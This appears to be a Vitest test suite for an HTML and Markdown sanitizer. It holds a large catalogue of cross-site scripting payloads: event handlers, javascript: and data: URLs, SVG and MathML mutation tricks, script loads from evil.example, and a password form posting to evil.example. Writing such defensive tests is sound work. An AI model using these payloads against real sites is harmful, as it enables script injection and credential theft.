import { Parser } from "htmlparser2";
import { describe, expect, it } from "vitest";
import { renderContent } from "./render-content.ts";
import { sanitize } from "./sanitize.ts";

/**
 * Vectors after the OWASP filter evasion cheat sheet, the HTML5 security cheat sheet and published advisories on
 * mutation in sanitizers. Every one holds something that must not survive.
 */
const VECTORS: Record<string, string[]> = {
  "script elements": [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//\\<</script>",
    "<script src=//evil.example/.j>",
    "<script>alert(1)//",
    '<script type="text/template"><img src=x onerror=alert(1)></script>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "<p>a<script><!--<script></script>--></script><img src=x onerror=alert(1)>",
  ],
  "event handlers": [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" />',
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    '<img/src="x"/onerror=alert(1)>',
    "<img\tsrc=x\tonerror\t=\talert(1)>",
    "<img src=x oneonerrorrror=alert(1) onerror=alert(1)>",
    "<img src='1' onerror='alert(1)' <",
    '<b onmouseover="alert(1)">hover</b>',
    "<p onclick=alert(1) ONFOCUS=alert(2) tabindex=1 autofocus>x</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<div onpointerenter=alert(1) style=position:fixed;inset:0>x</div>",
    "<table onscroll=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>",
    '<a href="https://a.example" onclick="alert(1)">x</a>',
    "<a onmouseover\x0b=alert(1)>x</a>",
    "<img src=x onerror\x00=alert(1)>",
    "<a href=x on\x00click=alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<keygen autofocus onfocus=alert(1)>",
    '<p title="</p><img src=x onerror=alert(1)>" onclick=alert(1)>x</p>',
  ],
  "javascript addresses": [
    '<a href="javascript:alert(1)">x</a>',
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="\x00javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#x3A;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="javascript://a.example/%0aalert(1)">x</a>',
    "<a href='javascript:alert(1)' href='https://ok.example'>x</a>",
    '<img src="javascript:alert(1)">',
    '<video src="/a.mp4" poster="javascript:alert(1)"><track src="javascript:alert(1)"></video>',
    '<audio src="data:audio/wav,x">',
    "<img src=`javascript:alert(1)` onload=`alert(1)`>",
    '<img src="  &#14; javascript:alert(1);">',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<img src="mailto:x@a.example">',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<q cite="vbscript:x">x</q>',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
    '<bgsound src="javascript:alert(1)">',
    '<layer src="https://evil.example/x.html"></layer>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="<!-- -->javascript:alert(1)">x</a><a href="javascript:alert(2)">y</a>',
  ],
  "other addresses": [
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1)>">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<a href="blob:https://a.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="\\\\evil.example/x">x</a>',
    '<a href="/\\evil.example/x">x</a>',
    '<a href="/\t/evil.example/x">x</a>',
    '<a href="intent://x#Intent;scheme=https;end">x</a>',
    '<img src=x srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
    '<a href="https://a.example" ping="https://evil.example" target="_blank" download>x</a>',
  ],
  styles: [
    "<style>@import'https://evil.example/x.css';</style>",
    "<div style=\"background-image:url(javascript:alert('XSS'))\">x</div>",
    '<div style="width: expression(alert(1));">x</div>',
    '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
    "<xss style=\"xss:expr/*XSS*/ession(alert('XSS'))\">x</xss>",
    '<link rel="stylesheet" href="javascript:alert(1);">',
    "<style>li {list-style-image: url('javascript:alert(1)');}</style><ul><li>x</ul>",
    "<p class='admin-only hidden'>x</p>",
  ],
  "documents, frames and forms": [
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
    '<meta http-equiv="Set-Cookie" content="USERID=x">',
    '<base href="javascript:alert(1);//">',
    '<iframe src="javascript:alert(1);"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<iframe src=https://evil.example <b>",
    '<frameset><frame src="javascript:alert(1);"></frameset>',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    '<object classid=clsid:ae24fdae><param name=url value="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">',
    '<applet code="Evil.class"></applet>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<input type="image" src="javascript:alert(1);">',
    "<isindex action=javascript:alert(1) type=image>",
    '<a href="https://a.example"><form action=https://evil.example><input name=password></form></a>',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><iframe src="x"></iframe>',
    '<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>',
    '<![CDATA[<script>alert(1)</script>]]><object data="x"></object>',
  ],
  "foreign namespaces and mutation": [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a><animate attributeName=href values="javascript:alert(1)" /><text y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x" /></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><desc><b><img src=x onerror=alert(1)></b></desc></svg>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><noscript></noscript><img src=x onerror=alert(1)></noscript>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template><template></template><script>alert(1)</script></template>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!><img src=y onerror=alert(2)>",
    "<p><!-- --!><img src=x onerror=alert(1)> --></p><img src=y onerror=alert(2)>",
    "<table><style></table><img src=x onerror=alert(1)></style>",
    "<option><style></option></select><b><img src=xx: onerror=alert(1)></style></option>",
    '<a title="`onmouseover=alert(1)" onfocus=alert(1)>x</a>',
    '<img alt="``onerror=alert(1)" src=x onload=alert(1)>',
  ],
  "ids and names": [
    "<a id=location href=https://a.example>x</a>",
    "<img name=getElementById src=x.png>",
    '<form id="document"><input name="cookie"></form>',
    '<a id="app"></a><a id="app" name="x" href="https://a.example">x</a>',
    '<p id="constructor" slot="x" is="x-evil" contenteditable="true">x</p>',
    '<h2 id="root">x</h2>',
    '<div class="hljs admin" data-state="{}" aria-hidden="true" role="alert" tabindex="5">x</div>',
    "<p accesskey=x translate=no nonce=x part=x popover>x</p>",
  ],
  "malformed tags": [
    "<img src=x onerror=alert(1)",
    "<img src='x' onerror='alert(1)",
    "<b/alt='1'onmouseover=alert(1)>x</b>",
    "<a href=x onclick='alert(1)'<b>x</b>",
    "<a\fhref=javascript:alert(1)>x</a>",
    "<a/href='javascript:alert(1)'>x</a>",
    "</p onclick=alert(1)><p onclick=alert(1)>x",
    '<a href="https://a.example""onclick=alert(1)">x</a>',
    '<p "="><img src=x onerror=alert(1)>">x</p>',
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<ſcript>alert(1)</ſcript><İframe src=x>",
    "<b><p></b></p><i onclick=alert(1)><p></i>",
  ],
};

const MARKDOWN: string[] = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java\\\nscript:alert(1))",
  "[x](<java script:alert(1)>)",
  "[x](vbscript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](//evil.example)",
  "[x]: javascript:alert(1)\n\n[x]",
  '[x](https://a.example "\\"onclick=alert(1)")',
  '[x](https://a.example "</a><img src=x onerror=alert(1)>")',
  '[x](https://a.example"onclick=alert(1))',
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  '![x" onerror="alert(1)](x.png)',
  "![<img src=x onerror=alert(1)>](x.png)",
  "<javascript:alert(1)>",
  "<script>alert(1)</script>",
  "text <img src=x onerror=alert(1)> text",
  "<div>\n\n<script>\nalert(1)\n\n</script></div>",
  "<details open ontoggle=alert(1)>\n\n*x*\n\n</details>",
  '```js" onclick="alert(1)\nx\n```',
  "```\n</code></pre><script>alert(1)</script>\n```",
  "`</code><script>alert(1)</script>`",
  "# <img src=x onerror=alert(1)> {#root onclick=alert(1)}",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <a href=javascript:alert(1)>x</a> |",
  "> <iframe srcdoc='<script>alert(1)</script>'>\n> x",
  "[<img src=x onerror=alert(1)>](https://a.example)",
  "<a href='javascript:alert(1)'>[x](https://a.example)</a>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\\<script>alert(1)\\</script>",
];

const ELEMENTS = new Set(
  (
    "p br hr h2 h3 h4 h5 h6 div span strong em b i u s del ins mark small sub sup code pre kbd samp var cite dfn ul ol li dl dt dd a img " +
    "abbr blockquote q time figure figcaption table caption colgroup col thead tbody tfoot tr th td details summary ruby rt rp wbr bdi bdo audio video track"
  ).split(" "),
);
const ATTRIBUTES = new Set(
  "href src alt title width height rel cite datetime start reversed value align scope span open dir lang poster".split(" "),
);
/** What the product itself adds, with the only values it gives them. */
const OWN: Record<string, RegExp> = {
  id: /^h-/,
  class: /^(table-scroll|hljs language-[\w+#-]+|hljs-[\w -]+)$/,
  tabindex: /^0$/,
  role: /^region$/,
  "aria-label": /^(Table|x)/,
  loading: /^lazy$/,
  decoding: /^async$/,
  controls: /^$/,
  preload: /^none$/,
  kind: /^captions$/,
  label: /^[\w ]+$/,
  srclang: /^[a-z]{2,3}$/,
  default: /^$/,
};

/** Everything in the HTML that a page must not get from an author, found by parsing it. */
function violations(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!ELEMENTS.has(name)) found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (OWN[attribute] ? !OWN[attribute].test(value) : !ATTRIBUTES.has(attribute))
          found.push(`${name}[${attribute}=${value}]`);
        if (["href", "src", "cite", "poster"].includes(attribute)) {
          const url = URL.parse(value, "https://site.example/story/x");
          const explicit = /^(https?|mailto):/i.test(value);
          if (!url || !(explicit || url.host === "site.example")) found.push(`${attribute}=${value}`);
          if (name !== "a" && url?.protocol === "mailto:") found.push(`${attribute}=${value}`);
        }
      }
    },
    oncomment: (text) => found.push(`comment ${text}`),
    onprocessinginstruction: (name) => found.push(name),
  });
  parser.end(html);
  if (html.includes("\0")) found.push("NUL");
  return found;
}

const cases = Object.entries(VECTORS).flatMap(([kind, vectors]) => vectors.map((vector): [string, string] => [kind, vector]));

describe("sanitize", () => {
  it("knows many vectors, and the check finds something unsafe in each of them", () => {
    expect(cases.length).toBeGreaterThanOrEqual(150);
    // Some end in the middle of a tag, which the rest of a page would close.
    const found = (vector: string) => violations(vector).length + violations(`${vector} '>`).length;
    expect(cases.filter(([, vector]) => found(vector) === 0)).toEqual([]);
  });

  it.each(cases)("%s: %s", async (_kind, vector) => {
    const { html } = await renderContent({ content: vector, format: "html" });
    expect(violations(html)).toEqual([]);
    // Stable: what is sent, read once more, is the same.
    expect(violations(sanitize(html))).toEqual([]);
  });

  it.each(cases)("within an article, %s: %s", async (_kind, vector) => {
    const { html } = await renderContent({ content: `<p>before</p><div>${vector}</div><p>after</p>`, format: "html" });
    expect(violations(html)).toEqual([]);
    expect(html).toContain("<p>before</p>");
  });

  it.each(cases)("in Markdown, %s: %s", async (_kind, vector) => {
    const { html } = await renderContent({ content: `Some *text*\n\n${vector}\n`, format: "markdown" });
    expect(violations(html)).toEqual([]);
  });

  it.each(MARKDOWN)("Markdown's own: %s", async (vector) => {
    const { html } = await renderContent({ content: vector, format: "markdown" });
    expect(violations(html)).toEqual([]);
  });

  it("keeps everything that an article may contain", () => {
    const html =
      '<h2>A</h2><p>a <strong>b</strong> <em>c</em> <a href="https://a.example/?x=1&amp;y=2">d</a></p><ul><li>e</li></ul>' +
      '<blockquote cite="https://a.example"><p>f</p></blockquote><table><tbody><tr><td align="right" colspan="2">1</td></tr></tbody></table>';
    expect(sanitize(html)).toBe(html);
  });
});
